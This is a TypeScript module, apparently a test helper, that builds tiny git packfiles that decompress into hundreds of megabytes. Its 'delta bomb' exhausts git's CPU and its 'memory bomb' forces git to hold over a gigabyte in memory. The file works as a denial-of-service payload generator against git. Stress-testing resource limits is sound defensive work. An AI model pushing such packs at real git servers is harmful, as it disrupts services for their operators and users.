import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

const MIB = 1024 * 1024;
const BASE_BYTES = 32 * MIB;
const COPIES = 8;
const MAX_COPY_BYTES = 0xffffff;

/**
 * A pack of some kilobytes whose objects are so many deltas, each of which makes 256 MB of the same 32 MB: git takes about
 * half a second of a processor for each. Source: gitformat-pack(5).
 */
export function deltaBomb(deltas: number): Buffer {
  const base = Buffer.alloc(BASE_BYTES);
  const name = createHash('sha1').update(`blob ${base.length}\0`).update(base).digest();
  const objects = [Buffer.concat([objectHeader(3, base.length), deflateSync(base)])];
  for (let i = 0; i < deltas; i++) {
    const delta = repeat(BASE_BYTES, COPIES, String(i).padStart(8, '0'));
    objects.push(Buffer.concat([objectHeader(7, delta.length), name, deflateSync(delta)]));
  }
  return packOf(objects);
}

/**
 * A pack of some kilobytes that makes 512 MB of 32 MB, and another 512 MB of these: git holds both in memory at once, each of
 * them a piece that it may ask for.
 */
export function memoryBomb(): Buffer {
  const base = Buffer.alloc(BASE_BYTES);
  const objects = [Buffer.concat([objectHeader(3, base.length), deflateSync(base)])];
  let bytes = BASE_BYTES;
  for (const times of [16, 1]) {
    const delta = repeat(bytes, times, 'end');
    const distance = offset(objects.at(-1)?.length ?? 0);
    objects.push(Buffer.concat([objectHeader(6, delta.length), distance, deflateSync(delta)]));
    bytes = times * bytes + 3;
  }
  return packOf(objects);
}

/** A delta that makes a base of so many bytes so many times, and then a text of its own. */
function repeat(baseBytes: number, times: number, own: string): Buffer {
  const copies: Buffer[] = [];
  for (let copy = 0; copy < times; copy++) {
    for (let at = 0; at < baseBytes; at += MAX_COPY_BYTES)
      copies.push(copyOf(at, Math.min(MAX_COPY_BYTES, baseBytes - at)));
  }
  const sizes = [size(baseBytes), size(times * baseBytes + own.length)];
  return Buffer.concat([...sizes, ...copies, Buffer.of(own.length), Buffer.from(own)]);
}

function packOf(objects: Buffer[]): Buffer {
  const head = Buffer.alloc(12);
  head.write('PACK');
  head.writeUInt32BE(2, 4);
  head.writeUInt32BE(objects.length, 8);
  const pack = Buffer.concat([head, ...objects]);
  return Buffer.concat([pack, createHash('sha1').update(pack).digest()]);
}

/** Copies so many bytes of the base from there: all four bytes of the place, and three of the length. */
function copyOf(at: number, length: number): Buffer {
  const bytes = Buffer.alloc(8);
  bytes[0] = 0xff;
  bytes.writeUInt32LE(at, 1);
  bytes.writeUIntLE(length, 5, 3);
  return bytes;
}

function size(value: number): Buffer {
  const bytes: number[] = [];
  for (let left = value; ; left = Math.floor(left / 128)) {
    bytes.push((left % 128) + (left >= 128 ? 128 : 0));
    if (left < 128) return Buffer.from(bytes);
  }
}

/** How far back the base of a delta is. Source: gitformat-pack(5), "offset encoding". */
function offset(value: number): Buffer {
  const bytes = [value % 128];
  for (let left = Math.floor(value / 128); left > 0; left = Math.floor(left / 128)) {
    left -= 1;
    bytes.unshift(128 + (left % 128));
  }
  return Buffer.from(bytes);
}

function objectHeader(kind: number, bytes: number): Buffer {
  const rest = Math.floor(bytes / 16);
  const first = kind * 16 + (bytes % 16);
  return rest === 0 ? Buffer.of(first) : Buffer.concat([Buffer.of(first + 128), size(rest)]);
}
